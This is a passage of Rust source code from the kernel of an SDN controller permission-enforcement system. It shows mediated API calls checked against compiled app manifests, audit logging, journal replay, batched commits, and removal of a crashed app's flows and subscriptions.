    /// CBench mode: packet-outs are permission-checked and counted but not
    /// walked through the simulated data plane (emulated benchmark switches
    /// absorb them, exactly like CBench's fake switches).
    absorb_packet_outs: std::sync::atomic::AtomicBool,
    /// Opt-in: run the `sdnshield-analysis` lint pass over manifests at
    /// registration time, rejecting manifests with error-severity findings.
    lint_on_register: std::sync::atomic::AtomicBool,
    /// Advances after every registry mutation (app registered or reaped).
    /// App-side fast lanes key their cached `Arc<PermissionEngine>` snapshot
    /// on this counter; a bump forces a refetch. Incremented strictly
    /// *after* the registry write completes, so a lane that observes epoch
    /// `E` and then fetches sees state at least as new as `E` (observing a
    /// pre-bump engine under a pre-bump epoch is fine — the next bump
    /// invalidates it; the reverse order could cache a stale engine under
    /// the *current* epoch forever).
    registry_epoch: std::sync::atomic::AtomicU64,
    /// Serializes command apply+append once a journal is attached, making
    /// journal order identical to commit order. Deliberately OUTSIDE the
    /// `lockorder` hierarchy: it is always acquired before any ranked
    /// subsystem lock and released after them, so it cannot participate in
    /// an inversion — and reads never take it at all.
    commit: Mutex<()>,
    /// Flat-combining slot ring (DESIGN.md §16): submitters who lose the
    /// race for the commit lock publish their command here; the lock winner
    /// drains the ring and applies the whole batch under one acquisition
    /// with one amortized journal group-append.
    submit_ring: ArrayQueue<Arc<SubmitSlot>>,
    /// Write-pipeline observability counters.
    combiner: CombinerCounters,
    /// Single-writer switch lanes (`None` = lanes disabled, the default).
    /// Only the combiner — which holds the commit lock — uses the pool, so
    /// this mutex is uncontended on the hot path.
    lanes: Mutex<Option<LanePool>>,
    /// The attached command journal, if any.
    journal: Mutex<Option<Arc<Journal>>>,
    /// Fast flag mirroring `journal.is_some()`, checked by the public
    /// wrappers without taking the journal mutex.
    journal_attached: AtomicBool,
    /// Set by [`Kernel::seal`]: every later submit is refused with
    /// [`ApiError::Shutdown`] instead of being applied. This is how failover
    /// fences the old primary.
    sealed: AtomicBool,
    /// Sequence of the last applied command (== last journal seq).
    last_applied: AtomicU64,
    /// Decision-trace recorder (DESIGN.md §14). When armed, every
    /// permission decision — whichever lane made it — plus app
    /// (de)registrations are appended here for `shieldcheck certify`.
    /// Debug/verification tooling: excluded from snapshots and replay.
    trace_armed: AtomicBool,
    decision_trace: Mutex<Vec<sdnshield_core::trace::TraceEvent>>,
    /// True while this kernel is replaying journal records: audit records
    /// are re-derived under a `replay:` tag and nothing is re-appended.
    replaying: AtomicBool,
}

fn kind_key(kind: EventKind) -> &'static str {
    match kind {
        EventKind::PacketIn => "packet_in",
        EventKind::Flow => "flow",
        EventKind::Topology => "topology",
        EventKind::Error => "error",
    }
}

/// Maps a snapshot's owned kind key back to the `'static` key the
/// subscription table uses (inverse of [`kind_key`]).
fn static_kind(s: &str) -> Option<&'static str> {
    match s {
        "packet_in" => Some("packet_in"),
        "flow" => Some("flow"),
        "topology" => Some("topology"),
        "error" => Some("error"),
        _ => None,
    }
}

impl Kernel {
    /// Creates a kernel over a simulated network.
    ///
    /// `checks_enabled = false` builds the monolithic baseline: calls are
    /// executed without permission checks, as in the unmodified controller
    /// the paper compares against.
    pub fn new(network: Network, checks_enabled: bool) -> Self {
        Kernel {
            registry: RwLock::new(Registry::default()),
            subs: RwLock::new(Subscriptions::default()),
            tracker: RwLock::new(OwnershipTracker::new()),
            tracker_epoch: AtomicU64::new(0),
            network: Arc::new(network),
            host: Mutex::new(HostSystem::new()),
            host_inbox: Mutex::new(BTreeMap::new()),
            audit: AuditLog::default(),
            checks_enabled,
            absorb_packet_outs: std::sync::atomic::AtomicBool::new(false),
            lint_on_register: std::sync::atomic::AtomicBool::new(false),
            registry_epoch: std::sync::atomic::AtomicU64::new(0),
            commit: Mutex::new(()),
            submit_ring: ArrayQueue::new(SUBMIT_RING_CAPACITY),
            combiner: CombinerCounters::default(),
            lanes: Mutex::new(None),
            journal: Mutex::new(None),
            journal_attached: AtomicBool::new(false),
            sealed: AtomicBool::new(false),
            last_applied: AtomicU64::new(0),
            replaying: AtomicBool::new(false),
            trace_armed: AtomicBool::new(false),
            decision_trace: Mutex::new(Vec::new()),
        }
    }

    /// Arms the decision-trace recorder, clearing any prior buffer. While
    /// armed, every permission decision (deputy, fast lane, vectored
    /// packet-outs, batches) and every (de)registration is recorded as a
    /// [`sdnshield_core::trace::TraceEvent`] for `shieldcheck certify`.
    pub fn enable_decision_trace(&self) {
        self.decision_trace.lock().clear();
        self.trace_armed.store(true, Ordering::Release);
    }

    /// Disarms the recorder and returns everything recorded since
    /// [`Kernel::enable_decision_trace`].
    pub fn take_decision_trace(&self) -> Vec<sdnshield_core::trace::TraceEvent> {
        self.trace_armed.store(false, Ordering::Release);
        std::mem::take(&mut *self.decision_trace.lock())
    }

    /// Appends one trace event if the recorder is armed. The closure keeps
    /// event construction off the hot path when tracing is off.
    fn trace_event(&self, ev: impl FnOnce() -> sdnshield_core::trace::TraceEvent) {
        if self.trace_armed.load(Ordering::Acquire) {
            self.decision_trace.lock().push(ev());
        }
    }

    /// Records one permission decision under the named lane.
    fn trace_decision(&self, call: &ApiCall, allowed: bool, lane: &'static str) {
        self.trace_event(|| sdnshield_core::trace::TraceEvent::Decision {
            lane: lane.to_owned(),
            allowed,
            call: call.clone(),
        });
    }

    /// Are permission checks enabled (i.e. is this a shielded kernel rather
    /// than the monolithic baseline)?
    pub fn checks_enabled(&self) -> bool {
        self.checks_enabled
    }

    /// The registry epoch: advances after every app registration or
    /// deregistration. Fast lanes use it to validate their cached engine
    /// snapshot without taking the registry lock.
    pub fn registry_epoch(&self) -> u64 {
        self.registry_epoch
            .load(std::sync::atomic::Ordering::Acquire)
    }

    fn bump_registry_epoch(&self) {
        self.registry_epoch
            .fetch_add(1, std::sync::atomic::Ordering::Release);
    }

    /// A shared snapshot of an app's compiled permission engine (the same
    /// `Arc` the deputies check against, so its decision cache is shared
    /// across both sides of the channel). `None` when the app is not
    /// registered.
    pub fn engine_snapshot(&self, app: AppId) -> Option<Arc<PermissionEngine>> {
        self.engine_for(app)
    }

    /// Turns audit-record admission on or off (see
    /// [`crate::audit::AuditLog::set_enabled`]). On by default; benches may
    /// disable it to isolate mediation cost from logging cost.
    pub fn set_audit_enabled(&self, enabled: bool) {
        self.audit.set_enabled(enabled);
    }

    /// Enables/disables the registration-time manifest lint (see
    /// [`Kernel::register_app`]). Off by default: linting is the app
    /// market's job; the kernel check is a defense-in-depth backstop.
    pub fn set_lint_on_register(&self, lint: bool) {
        self.lint_on_register
            .store(lint, std::sync::atomic::Ordering::SeqCst);
    }

    // Lock accessors: every acquisition of a kernel-level lock goes through
    // one of these, so debug builds assert the documented hierarchy (module
    // docs above; `lockorder`) and panic on inversion instead of
    // deadlocking.

    fn reg_read(&self) -> Ordered<RwLockReadGuard<'_, Registry>> {
        lockorder::order(Rank::Registry, || self.registry.read())
    }

    fn reg_write(&self) -> Ordered<RwLockWriteGuard<'_, Registry>> {
        lockorder::order(Rank::Registry, || self.registry.write())
    }

    fn subs_read(&self) -> Ordered<RwLockReadGuard<'_, Subscriptions>> {
        lockorder::order(Rank::Subs, || self.subs.read())
    }

    fn subs_write(&self) -> Ordered<RwLockWriteGuard<'_, Subscriptions>> {
        lockorder::order(Rank::Subs, || self.subs.write())
    }

    fn tracker_read(&self) -> Ordered<RwLockReadGuard<'_, OwnershipTracker>> {
        lockorder::order(Rank::Tracker, || self.tracker.read())
    }

    fn tracker_write(&self) -> Ordered<RwLockWriteGuard<'_, OwnershipTracker>> {
        lockorder::order(Rank::Tracker, || self.tracker.write())
    }

    /// Mutates the ownership tracker and republishes its epoch into the
    /// lock-free mirror **while still holding the write lock**, so the
    /// mirror can never run ahead of (or permanently lag) the tracker. All
    /// tracker mutations must go through here.
    fn tracker_mut<R>(&self, f: impl FnOnce(&mut OwnershipTracker) -> R) -> R {
        let mut tracker = self.tracker_write();
        let r = f(&mut tracker);
        self.tracker_epoch.store(tracker.epoch(), Ordering::Release);
        r
    }

    fn host_lock(&self) -> Ordered<MutexGuard<'_, HostSystem>> {
        lockorder::order(Rank::Host, || self.host.lock())
    }

    fn host_inbox_lock(&self) -> Ordered<MutexGuard<'_, BTreeMap<EthAddr, Vec<EthernetFrame>>>> {
        lockorder::order(Rank::HostInbox, || self.host_inbox.lock())
    }

    /// Records a mediated-call audit record, tagging the operation with
    /// `replay:` while this kernel is replaying journal records — forensic
    /// readers can tell re-derived records from originals, and the recovery
    /// tests can prove nothing is double-counted.
    fn record_audit(
        &self,
        app: AppId,
        operation: &str,
        token: PermissionToken,
        outcome: AuditOutcome,
    ) {
        if self.replaying.load(Ordering::SeqCst) {
            self.audit
                .record(app, &format!("replay:{operation}"), token, outcome);
        } else {
            self.audit.record(app, operation, token, outcome);
        }
    }

    /// Enables/disables CBench mode (see the field documentation).
    pub fn set_absorb_packet_outs(&self, absorb: bool) {
        self.absorb_packet_outs
            .store(absorb, std::sync::atomic::Ordering::SeqCst);
    }

    /// The permission engine for an app, if registered.
    fn engine_for(&self, app: AppId) -> Option<Arc<PermissionEngine>> {
        self.reg_read().engines.get(&app).cloned()
    }

    /// The virtual-topology mapper for an app, if granted one.
    fn vtopo_for(&self, app: AppId) -> Option<Arc<VirtualTopology>> {
        self.reg_read().vtopos.get(&app).cloned()
    }

    /// Registers an app's reconciled manifest, compiling its permission
    /// engine and materializing any virtual-topology filter.
    ///
    /// When the registration-time lint is enabled
    /// ([`Kernel::set_lint_on_register`]), the manifest first runs through
    /// the `sdnshield-analysis` semantic checks: every finding is recorded
    /// in the audit log (`lint:SH0xx` operations), and error-severity
    /// findings (e.g. an unsatisfiable filter conjunction) reject the
    /// registration outright.
    ///
    /// # Errors
    ///
    /// [`ApiError::Vtopo`] when a granted virtual topology names switches
    /// that do not exist; [`ApiError::ManifestRejected`] when the lint pass
    /// finds an error-severity defect.
    pub fn register_app(
        &self,
        app: AppId,
        name: &str,
        manifest: &PermissionSet,
    ) -> Result<(), ApiError> {
        if self.journal_attached.load(Ordering::Acquire) {
            let (outcome, _) = self.submit(Command::RegisterApp {
                app,
                name: name.to_owned(),
                manifest: manifest.to_string(),
            });
            return outcome.into_ack();
        }
        let lint = self
            .lint_on_register
            .load(std::sync::atomic::Ordering::SeqCst);
        self.register_app_unjournaled(app, name, manifest, &manifest.to_string(), lint)
    }

    /// The registration body proper. `text` is the canonical manifest text
    /// retained for snapshots; `lint` gates the registration-time lint
    /// (recovery re-registers snapshot apps with `lint = false` — those
    /// manifests were admitted before the crash).
    fn register_app_unjournaled(
        &self,
        app: AppId,
        name: &str,
        manifest: &PermissionSet,
        text: &str,
        lint: bool,
    ) -> Result<(), ApiError> {
        if lint {
            self.lint_manifest(app, name, manifest)?;
        }
        let engine = PermissionEngine::compile(manifest);
        // Materialize a virtual topology if the visible_topology filter
        // carries a VIRTUAL spec — built before the registry write lock is
        // taken, so registration never holds Registry across topology reads.
        let mut vtopo = None;
        if let Some(filter) = engine.filter_for(PermissionToken::VisibleTopology) {
            if let Some(spec) = find_vtopo_spec(filter) {
                let phys = phys_view(&self.network);
                let vt = VirtualTopology::build(&spec, &phys)
                    .map_err(|e| ApiError::Vtopo(e.to_string()))?;
                vtopo = Some(Arc::new(vt));
            }
        }
        {
            let mut reg = self.reg_write();
            if let Some(vt) = vtopo {
                reg.vtopos.insert(app, vt);
            }
            reg.engines.insert(app, Arc::new(engine));
            reg.app_names.insert(app, name.to_owned());
            reg.manifests.insert(app, text.to_owned());
        }
        self.bump_registry_epoch();
        self.trace_event(|| sdnshield_core::trace::TraceEvent::Register {
            app,
            name: name.to_owned(),
            manifest: text.to_owned(),
        });
        Ok(())
    }

    /// The registration-time lint backstop: runs the static analyzer over
    /// the already-parsed manifest (span-less, so findings carry no source
    /// positions), records every finding in the audit log, and rejects on
    /// error severity.
    fn lint_manifest(
        &self,
        app: AppId,
        name: &str,
        manifest: &PermissionSet,
    ) -> Result<(), ApiError> {
        use sdnshield_analysis::Severity;
        let diags = sdnshield_analysis::analyze_permission_set(manifest);
        let replay = if self.replaying.load(Ordering::SeqCst) {
            "replay:"
        } else {
            ""
        };
        for d in &diags {
            self.audit.record_system_with(
                app,
                || format!("{replay}lint:{}", d.code),
                if d.severity >= Severity::Error {
                    AuditOutcome::Denied
                } else {
                    AuditOutcome::Allowed
                },
            );
        }
        if sdnshield_analysis::has_severity(&diags, Severity::Error) {
            let first = diags
                .iter()
                .find(|d| d.severity >= Severity::Error)
                .expect("an error-severity finding exists");
            return Err(ApiError::ManifestRejected(format!(
                "{name}: [{}] {}",
                first.code, first.message
            )));
        }
        Ok(())
    }

    /// Loading-time access control (paper §VIII-B): are all `required`
    /// tokens granted at all? Returns the missing tokens.
    pub fn missing_tokens(&self, app: AppId, required: &[PermissionToken]) -> Vec<PermissionToken> {
        match self.engine_for(app) {
            Some(engine) => required
                .iter()
                .copied()
                .filter(|t| !engine.has_token(*t))
                .collect(),
            None => required.to_vec(),
        }
    }

    /// Executes one mediated call: permission check, execution, audit.
    /// Returns the response plus any events to dispatch.
    ///
    /// With a journal attached the call is reified as a [`Command`] and
    /// routed through [`Kernel::submit`] — applied and appended under the
    /// commit lock. Journaling is unconditional, denials included: replay
    /// re-derives the same denials, which is what keeps tracker epochs (a
    /// count of tracker mutations) identical between a live kernel and its
    /// recovered twin.
    ///
    /// The check acquires no exclusive lock: it reads the engine out of the
    /// registry (shared lock, dropped immediately) and evaluates against a
    /// shared borrow of the ownership tracker. Execution then takes only
    /// the locks the specific call needs — a flow-mod on switch 3 contends
    /// with nothing but other traffic on switch 3.
    pub fn execute(&self, call: &ApiCall) -> (Result<ApiResponse, ApiError>, Vec<OutboundEvent>) {
        if self.journal_attached.load(Ordering::Acquire) {
            let (outcome, events) = self.submit(Command::Call(call.clone()));
            return (outcome.into_api(), events);
        }
        self.execute_unjournaled(call)
    }

    fn execute_unjournaled(
        &self,
        call: &ApiCall,
    ) -> (Result<ApiResponse, ApiError>, Vec<OutboundEvent>) {
        if self.checks_enabled {
            let Some(engine) = self.engine_for(call.app) else {
                let err = ApiError::PermissionDenied {
                    token: call.required_token(),
                    reason: sdnshield_core::engine::DenyReason::MissingToken,
                };
                self.trace_decision(call, false, "deputy");
                return (Err(err), Vec::new());
            };
            let decision = engine.check_with(call, self.context_epoch(), || self.tracker_read());
            if let Decision::Denied { .. } = decision {
                self.trace_decision(call, false, "deputy");
                self.record_audit(
                    call.app,
                    call.kind.name(),
                    call.required_token(),
                    AuditOutcome::Denied,
                );
                return (Err(ApiError::from_decision(decision)), Vec::new());
            }
            self.trace_decision(call, true, "deputy");
        }
        if self
            .absorb_packet_outs
            .load(std::sync::atomic::Ordering::SeqCst)
        {
            if let ApiCallKind::SendPacketOut { dpid, packet_out } = &call.kind {
                self.record_audit(
                    call.app,
                    call.kind.name(),
                    call.required_token(),
                    AuditOutcome::Allowed,
                );
                // Absorb mode skips the data-plane walk, but a wire-attached
                // switch still needs the mediated reply on its socket.
                self.network.notify_wire_packet_out(*dpid, packet_out);
                return (Ok(ApiResponse::Unit), Vec::new());
            }
        }
        let (result, events) = self.apply(call);
        self.record_audit(
            call.app,
            call.kind.name(),
            call.required_token(),
            if result.is_ok() {
                AuditOutcome::Allowed
            } else {
                AuditOutcome::Failed
            },
        );
        (result, events)
    }

    /// Serves a side-effect-free read entirely on the calling thread — the
    /// app-side fast path (DESIGN.md "Read fast path & vectored delivery").
    ///
    /// Returns `Some` only when *both* halves of the call are pure:
    ///
    /// * the permission decision is a pure function of the call
    ///   ([`PermissionEngine::check_call_only`] — constant or call-only
    ///   plan; stateful literals route to the deputy), and
    /// * the handler is one of the read-only kinds (`read_topology`,
    ///   `read_flow_table`, `read_statistics`), whose `apply` arms mutate
    ///   nothing and emit no events.
    ///
    /// The context epoch is re-read after the check: if the ownership
    /// tracker mutated mid-decision the hit is abandoned (`None`) and the
    /// call falls back to the deputy, which decides against a live tracker
    /// view. Denials and served reads are audited exactly as
    /// [`Kernel::execute`] would audit them, so forensics cannot tell the
    /// two paths apart.
    ///
    /// `None` always means "route through the deputy", never "denied".
    pub fn try_serve_read(&self, call: &ApiCall) -> Option<Result<ApiResponse, ApiError>> {
        let engine = if self.checks_enabled {
            self.engine_for(call.app)
        } else {
            None
        };
        self.try_serve_read_with(call, engine.as_deref())
    }

    /// [`Kernel::try_serve_read`] with a caller-supplied engine snapshot, so
    /// an app-thread fast lane that already holds a registry-epoch-validated
    /// `Arc<PermissionEngine>` skips the registry read lock entirely.
    pub(crate) fn try_serve_read_with(
        &self,
        call: &ApiCall,
        engine: Option<&PermissionEngine>,
    ) -> Option<Result<ApiResponse, ApiError>> {
        if !matches!(
            call.kind,
            ApiCallKind::ReadTopology
                | ApiCallKind::ReadFlowTable { .. }
                | ApiCallKind::ReadStatistics { .. }
        ) {
            return None;
        }
        if self.checks_enabled {
            let engine = engine?;
            let epoch = self.context_epoch();
            let decision = engine.check_call_only(call, epoch)?;
            if self.context_epoch() != epoch {
                // The tracker mutated mid-decision: abandon the hit and let
                // the deputy re-decide against a live tracker view.
                return None;
            }
            if let Decision::Denied { .. } = decision {
                self.trace_decision(call, false, "fastlane");
                self.record_audit(
                    call.app,
                    call.kind.name(),
                    call.required_token(),
                    AuditOutcome::Denied,
                );
                return Some(Err(ApiError::from_decision(decision)));
            }
            self.trace_decision(call, true, "fastlane");
        }
        let (result, events) = self.apply(call);
        debug_assert!(events.is_empty(), "read-only apply arms emit no events");
        self.record_audit(
            call.app,
            call.kind.name(),
            call.required_token(),
            if result.is_ok() {
                AuditOutcome::Allowed
            } else {
                AuditOutcome::Failed
            },
        );
        Some(result)
    }

    /// Executes an atomic group of flow operations (paper §VI-B2): all
    /// operations are permission-checked first; execution applies all or —
    /// on a mid-flight switch error — rolls back the already-applied prefix.
    pub fn execute_transaction(
        &self,
        app: AppId,
        ops: &[FlowOp],
    ) -> (Result<ApiResponse, ApiError>, Vec<OutboundEvent>) {
        if self.journal_attached.load(Ordering::Acquire) {
            let (outcome, events) = self.submit(Command::Transaction {
                app,
                ops: ops.to_vec(),
            });
            return (outcome.into_api(), events);
        }
        self.run_atomic(app, ops, "transaction")
    }

    /// Executes a batch of flow operations submitted through the batched
    /// deputy API (`AppCtx::submit_batch`): the same atomic check/apply/
    /// rollback machinery as [`Kernel::execute_transaction`], but audited
    /// as a `batch`. The win over N singleton calls is amortization — one
    /// channel crossing, one engine fetch, one tracker read guard, and one
    /// audit record for the whole group.
    pub fn execute_batch(
        &self,
        app: AppId,
        ops: &[FlowOp],
    ) -> (Result<ApiResponse, ApiError>, Vec<OutboundEvent>) {
        if self.journal_attached.load(Ordering::Acquire) {
            let (outcome, events) = self.submit(Command::Batch {
                app,
                ops: ops.to_vec(),
            });
            return (outcome.into_api(), events);
        }
        self.run_atomic(app, ops, "batch")
    }

    /// Checks and applies a group of packet-outs moved across the deputy
    /// channel in one crossing (`AppCtx::send_packet_outs`) — the vectored
    /// counterpart of N singleton `send_pkt_out` calls. Best-effort like a
    /// loop of singleton calls: one denial or switch error skips that
    /// packet-out, audited individually, and the rest still go out. The win
    /// is amortization — one channel crossing, one reply wake-up, and one
    /// engine fetch for the whole group. Returns the number actually sent
    /// plus derived events (packet-ins absorbed from the data-plane walk).
    pub fn execute_packet_outs(
        &self,
        app: AppId,
        outs: &[(DatapathId, PacketOut)],
    ) -> (Result<usize, ApiError>, Vec<OutboundEvent>) {
        if self.journal_attached.load(Ordering::Acquire) {
            let (outcome, events) = self.submit(Command::PacketOuts {
                app,
                outs: outs.to_vec(),
            });
            return (outcome.into_count(), events);
        }
        self.execute_packet_outs_unjournaled(app, outs)
    }

    fn execute_packet_outs_unjournaled(
        &self,
        app: AppId,
        outs: &[(DatapathId, PacketOut)],
    ) -> (Result<usize, ApiError>, Vec<OutboundEvent>) {
        let engine = if self.checks_enabled {
            match self.engine_for(app) {
                Some(e) => Some(e),
                None => {
                    return (
                        Err(ApiError::PermissionDenied {
                            token: PermissionToken::SendPktOut,
                            reason: sdnshield_core::engine::DenyReason::MissingToken,
                        }),
                        Vec::new(),
                    );
                }
            }
        } else {
            None
        };
        let absorb = self
            .absorb_packet_outs
            .load(std::sync::atomic::Ordering::SeqCst);
        let mut sent = 0usize;
        let mut events = Vec::new();
        for (dpid, packet_out) in outs {
            let call = ApiCall {
                app,
                kind: ApiCallKind::SendPacketOut {
                    dpid: *dpid,
                    packet_out: packet_out.clone(),
                },
            };
            if let Some(engine) = engine.as_deref() {
                let decision =
                    engine.check_with(&call, self.context_epoch(), || self.tracker_read());
                if let Decision::Denied { .. } = decision {
                    self.trace_decision(&call, false, "vectored");
                    self.record_audit(
                        app,
                        call.kind.name(),
                        call.required_token(),
                        AuditOutcome::Denied,
                    );
                    continue;
                }
                self.trace_decision(&call, true, "vectored");
            }
            if absorb {
                self.record_audit(
                    app,
                    call.kind.name(),
                    call.required_token(),
                    AuditOutcome::Allowed,
                );
                // As in the singleton path: no data-plane walk, but mirror
                // the allowed packet-out to any wire-attached switch.
                self.network.notify_wire_packet_out(*dpid, packet_out);
                sent += 1;
                continue;
            }
            let (result, evs) = self.apply(&call);
            self.record_audit(
                app,
                call.kind.name(),
                call.required_token(),
                if result.is_ok() {
                    AuditOutcome::Allowed
                } else {
                    AuditOutcome::Failed
                },
            );
            if result.is_ok() {
                sent += 1;
            }
            events.extend(evs);
        }
        (Ok(sent), events)
    }

    /// The current context epoch: advances whenever the ownership tracker
    /// mutates, invalidating engine decision caches keyed on it (see
    /// [`sdnshield_core::eval::CheckContext::epoch`]). Every tracker
    /// mutation routes through its `record_*` methods, which bump the
    /// counter unconditionally — no kernel call site can forget.
    pub fn context_epoch(&self) -> u64 {
        self.tracker_epoch.load(Ordering::Acquire)
    }

    /// Shared atomic check/apply/rollback for transactions and batches.
    fn run_atomic(
        &self,
        app: AppId,
        ops: &[FlowOp],
        audit_op: &'static str,
    ) -> (Result<ApiResponse, ApiError>, Vec<OutboundEvent>) {
        // Phase 1: check everything before touching any state.
        if self.checks_enabled {
            let Some(engine) = self.engine_for(app) else {
                return (
                    Err(ApiError::PermissionDenied {
                        token: PermissionToken::InsertFlow,
                        reason: sdnshield_core::engine::DenyReason::MissingToken,
                    }),
                    Vec::new(),
                );
            };
            // Call-only decisions resolve against the pinned epoch without
            // the tracker lock; the read guard is acquired lazily on the
            // first stateful literal and then held so every stateful check
            // in the batch sees one consistent tracker view.
            let epoch = self.context_epoch();
            let mut tracker = None;
            for (i, op) in ops.iter().enumerate() {
                let call = flow_op_call(app, op);
                let decision = match engine.check_call_only(&call, epoch) {
                    Some(d) => d,
                    None => {
                        let t = tracker.get_or_insert_with(|| self.tracker_read());
                        engine.check(&call, &**t)
                    }
                };
                if let Decision::Denied { .. } = decision {
                    drop(tracker);
                    self.trace_decision(&call, false, "batch");
                    self.audit
                        .record(app, audit_op, call.required_token(), AuditOutcome::Denied);
                    return (
                        Err(ApiError::TransactionAborted {
                            failed_index: i,
                            cause: Box::new(ApiError::from_decision(decision)),
                        }),
                        Vec::new(),
                    );
                }
                self.trace_decision(&call, true, "batch");
            }
        }
        // Phase 2: apply, with rollback on switch errors.
        let mut applied: Vec<(usize, Vec<sdnshield_openflow::flow_table::RemovedEntry>)> =
            Vec::new();
        let mut events = Vec::new();
        for (i, op) in ops.iter().enumerate() {
            let stamped = stamp_cookie(app, &op.flow_mod);
            match self.network.apply_flow_mod(op.dpid, &stamped) {
                Ok(removed) => {
                    self.tracker_mut(|t| t.record_flow_mod(app, op.dpid, &stamped));
                    events.extend(removed_events(op.dpid, &removed));
                    applied.push((i, removed));
                }
                Err(e) => {
                    // Roll back the applied prefix in reverse order.
                    for (j, removed) in applied.into_iter().rev() {
                        self.rollback(app, &ops[j], removed);
                    }
                    self.record_audit(
                        app,
                        audit_op,
                        PermissionToken::InsertFlow,
                        AuditOutcome::Failed,
                    );
                    return (
                        Err(ApiError::TransactionAborted {
                            failed_index: i,
                            cause: Box::new(ApiError::Switch(e)),
                        }),
                        Vec::new(),
                    );
                }
            }
        }
        self.record_audit(
            app,
            audit_op,
            PermissionToken::InsertFlow,
            AuditOutcome::Allowed,
        );
        (Ok(ApiResponse::Unit), events)
    }

    /// Injects a data-plane frame from a host NIC (the simulation driver),
    /// returning packet-in events for dispatch.
    pub fn inject_host_frame(&self, frame: EthernetFrame) -> Vec<OutboundEvent> {
        if self.journal_attached.load(Ordering::Acquire) {
            let (_, events) = self.submit(Command::InjectHostFrame { frame });
            return events;
        }
        self.inject_host_frame_unjournaled(frame)
    }

    fn inject_host_frame_unjournaled(&self, frame: EthernetFrame) -> Vec<OutboundEvent> {
        match self.network.inject_from_host(frame) {
            Ok(deliveries) => self.absorb_deliveries(deliveries),
            Err(_) => Vec::new(),
        }
    }

    /// Feeds a fabricated packet-in (CBench-style benchmarking) without a
    /// data-plane walk.
    pub fn feed_packet_in(&self, dpid: DatapathId, packet_in: PacketIn) -> Vec<OutboundEvent> {
        vec![OutboundEvent {
            event: Event::PacketIn { dpid, packet_in },
        }]
    }

    /// Fails the link between two switches: removes it from the topology
    /// and produces a topology-changed event for subscribed apps. Returns
    /// `None` when no such link existed (no event is produced).
    pub fn fail_link(&self, a: DatapathId, b: DatapathId) -> Option<OutboundEvent> {
        if self.journal_attached.load(Ordering::Acquire) {
            let (_, events) = self.submit(Command::FailLink { a, b });
            return events.into_iter().next();
        }
        self.fail_link_unjournaled(a, b)
    }

    fn fail_link_unjournaled(&self, a: DatapathId, b: DatapathId) -> Option<OutboundEvent> {
        if self.network.with_topology_mut(|t| t.remove_link(a, b)) {
            Some(OutboundEvent {
                event: Event::TopologyChanged {
                    description: format!("link {a} <-> {b} failed"),
                },
            })
        } else {
            None
        }
    }

    /// Advances the virtual clock, expiring flows and producing
    /// flow-removed events. Time itself is a journaled command: flow expiry
    /// is a deterministic function of clock position, so replaying the
    /// clock replays the expiries.
    pub fn advance_clock(&self, secs: u64) -> Vec<OutboundEvent> {
        if self.journal_attached.load(Ordering::Acquire) {
            let (_, events) = self.submit(Command::AdvanceClock { secs });
            return events;
        }
        self.advance_clock_unjournaled(secs)
    }

    fn advance_clock_unjournaled(&self, secs: u64) -> Vec<OutboundEvent> {
        let removed = self.network.advance_clock(secs);
        let mut events = Vec::new();
        if removed.is_empty() {
            return events;
        }
        self.tracker_mut(|tracker| {
            for r in removed {
                tracker.record_expiry(
                    r.dpid,
                    &r.removed.entry.flow_match,
                    r.removed.entry.priority,
                );
                events.push(OutboundEvent {
                    event: Event::FlowRemoved {
                        dpid: r.dpid,
                        flow_removed: to_flow_removed(&r.removed),
                    },
                });
            }
        });
        events
    }

    /// Current virtual time in seconds.
    pub fn now(&self) -> u64 {
        self.network.now()
    }

    /// Reaps every trace of an app from the kernel: its permission engine,
    /// virtual topology, event and topic subscriptions, open host
    /// connections, and — via cookie ownership — every flow entry it
    /// installed on any switch. Called by the supervisor when the app
    /// crashes (and by registration rollback).
    ///
    /// Returns flow-removed events for the reclaimed entries so surviving
    /// subscribers can react, exactly as they would to a timeout expiry.
    /// Crash forensics (the app's name, crash counts) live with the
    /// supervisor, which outlives the kernel-side registration; the removals
    /// are recorded in the ownership tracker so later reads of the reclaimed
    /// matches are not misattributed.
    ///
    /// Locks are taken strictly one subsystem at a time in hierarchy order
    /// (Registry, Subs, Host, then each switch in ascending dpid order, then
    /// Tracker), so reaping can never deadlock against concurrent deputies.
    pub fn deregister_app(&self, app: AppId) -> Vec<OutboundEvent> {
        if self.journal_attached.load(Ordering::Acquire) {
            let (_, events) = self.submit(Command::DeregisterApp { app });
            return events;
        }
        self.deregister_app_unjournaled(app)
    }

    fn deregister_app_unjournaled(&self, app: AppId) -> Vec<OutboundEvent> {
        self.trace_event(|| sdnshield_core::trace::TraceEvent::Deregister { app });
        {
            let mut reg = self.reg_write();
            reg.engines.remove(&app);
            reg.app_names.remove(&app);
            reg.vtopos.remove(&app);
            reg.manifests.remove(&app);
        }
        self.bump_registry_epoch();
        {
            let mut subs = self.subs_write();
            for subs in subs.by_kind.values_mut() {
                subs.retain(|(a, _)| *a != app);
            }
            for subs in subs.custom.values_mut() {
                subs.retain(|a| *a != app);
            }
        }
        self.host_lock().close_connections(app);
        let removed = self.network.remove_flows_owned_by(app.0);
        let mut events = Vec::new();
        if removed.is_empty() {
            return events;
        }
        self.tracker_mut(|tracker| {
            for r in removed {
                tracker.record_expiry(
                    r.dpid,
                    &r.removed.entry.flow_match,
                    r.removed.entry.priority,
                );
                events.push(OutboundEvent {
                    event: Event::FlowRemoved {
                        dpid: r.dpid,
                        flow_removed: to_flow_removed(&r.removed),
                    },
                });
            }
        });
        events
    }

    /// Records an app crash in the audit log (`phase` says where it died,
    /// e.g. `on_event`).
    pub fn audit_crash(&self, app: AppId, phase: &str) {
        self.audit.record_system_with(
            app,
            || format!("crash:{phase}"),
            crate::audit::AuditOutcome::Crashed,
        );
    }

    /// Records an event discarded before the app saw it (overload shedding
    /// or crash reaping).
    pub fn audit_dropped(&self, app: AppId, reason: &str) {
        self.audit
            .record_system(app, reason, crate::audit::AuditOutcome::Dropped);
    }

    /// Apps subscribed to an event kind, in delivery order (interceptors
    /// first).
    pub fn subscribers(&self, kind: EventKind) -> Vec<AppId> {
        self.subs_read()
            .by_kind
            .get(kind_key(kind))
            .map(|subs| subs.iter().map(|(a, _)| *a).collect())
            .unwrap_or_default()
    }

    /// Apps subscribed to an event kind with their interception flag, in
    /// delivery order. Interceptors must finish processing an event before
    /// non-interceptors see it (paper §IV-B, `EVENT_INTERCEPTION`).
    pub fn subscribers_phased(&self, kind: EventKind) -> Vec<(AppId, bool)> {
        self.subs_read()
            .by_kind
            .get(kind_key(kind))
            .cloned()
            .unwrap_or_default()
    }

    /// Apps subscribed to a custom topic.
    pub fn topic_subscribers(&self, topic: &str) -> Vec<AppId> {
        self.subs_read()
